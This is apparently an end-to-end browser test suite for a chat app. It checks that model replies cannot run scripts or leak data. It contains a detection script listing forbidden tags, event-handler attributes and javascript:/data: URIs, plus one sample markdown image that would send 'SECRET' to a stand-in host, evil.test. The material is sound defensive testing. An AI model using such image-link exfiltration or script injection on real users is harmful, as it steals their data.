"""Nothing that a model writes runs, and nothing leaves: in a real browser, under the real policy, frame by frame."""

from collections.abc import Iterator

import pytest
from playwright.sync_api import Page, expect

from tests.e2e.desk import choose_model, ended, say
from tests.support.payloads import LEAKS, SCRIPTS
from tests.support.server import ServerProcess
from tests.support.upstream import UpstreamProcess

LETTER_BY_LETTER = "echo?tps=500&size=1"
# Watches the transcript from before the first frame: what must never be in it, and what the policy had to stop.
WATCH = """
  window.found = [];
  const FORBIDDEN = "script, iframe, object, embed, img, video, audio, link, style, meta, base";
  document.addEventListener("securitypolicyviolation", (event) => {
    found.push(`policy ${event.violatedDirective} ${event.blockedURI}`);
  });
  const looked = (element) => {
    if (!element.closest("#transcript")) return;
    let bad = element.matches(FORBIDDEN);
    for (const { name, value } of element.attributes) {
      bad ||= name.startsWith("on") || name === "srcdoc" || name === "style" && !element.closest(".katex");
      bad ||= ["href", "src", "action"].includes(name) && /^\\s*(javascript|data|vbscript):/i.test(value);
    }
    if (bad) found.push(element.outerHTML);
  };
  new MutationObserver((changes) => {
    for (const change of changes) for (const node of change.addedNodes) {
      if (node.nodeType === 1) for (const element of [node, ...node.querySelectorAll("*")]) looked(element);
    }
  }).observe(document, { childList: true, subtree: true });
"""


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[ServerProcess]:
    """One server for all of these, on an upstream that says again what it is asked."""
    upstream = UpstreamProcess()
    process = ServerProcess(tmp_path_factory.mktemp("desk") / "data", "--no-local-model")
    try:
        upstream.control(models=[LETTER_BY_LETTER])
        process.start()
        process.add_user("ada")
        process.command("endpoint", "add", "up", "--api", "openai-chat", "--url", upstream.url)
        yield process
    finally:
        process.close()
        upstream.stop()


def groups(payloads: list[str], size: int) -> list[str]:
    return ["\n\n".join(payloads[at : at + size]) for at in range(0, len(payloads), size)]


@pytest.mark.browser
@pytest.mark.parametrize("payloads", [SCRIPTS, LEAKS], ids=["scripts", "leaks"])
def test_no_script_runs_and_no_request_leaves(page: Page, server: ServerProcess, payloads: list[str]) -> None:
    sent: list[str] = []
    page.context.add_init_script(WATCH)
    page.context.on("request", lambda request: sent.append(request.url))
    page.goto("/")
    choose_model(page, LETTER_BY_LETTER)
    for number, text in enumerate(groups(payloads, 10), 1):
        say(page, text)
        expect(page.locator("article.reply")).to_have_count(number)
        ended(page.locator("article.reply").last)
        assert page.evaluate("window.owned") is None
    assert page.evaluate("found") == []
    # Drawn fresh, and in the search, whose hits quote what was written.
    for path in (page.url, "/search?q=owned", "/search?q=evil", "/search?q=onerror"):
        page.goto(path)
        page.wait_for_load_state("networkidle") if path.startswith("/search") else None
        assert page.evaluate("window.owned") is None
        assert page.evaluate("found") == []
    assert [url for url in sent if not url.startswith(server.url + "/")] == []


@pytest.mark.browser
def test_an_image_is_fetched_by_nobody_until_its_link_is_followed(page: Page, server: ServerProcess) -> None:
    choose_model(page, LETTER_BY_LETTER)
    say(page, "![A cat](https://evil.test/cat.png?q=SECRET)")
    reply = ended(page.locator("article.reply").last)
    chip = reply.locator("a.held")
    expect(chip).to_have_attribute("href", "https://evil.test/cat.png?q=SECRET")
    expect(chip).to_have_attribute("title", "https://evil.test/cat.png?q=SECRET")
    expect(chip).to_have_attribute("rel", "noopener noreferrer nofollow")
    expect(chip).to_contain_text("A cat")


def test_a_formula_does_not_grow_over_the_page(page: Page, server: ServerProcess) -> None:
    page.goto("/")
    choose_model(page, LETTER_BY_LETTER)
    say(page, "Here: $\\rule{900em}{900em}$")
    formula = ended(page.locator("article.reply")).locator(".math")
    expect(formula.locator(".katex")).to_be_visible()
    box = formula.bounding_box()
    assert box
    assert box["height"] < 1000
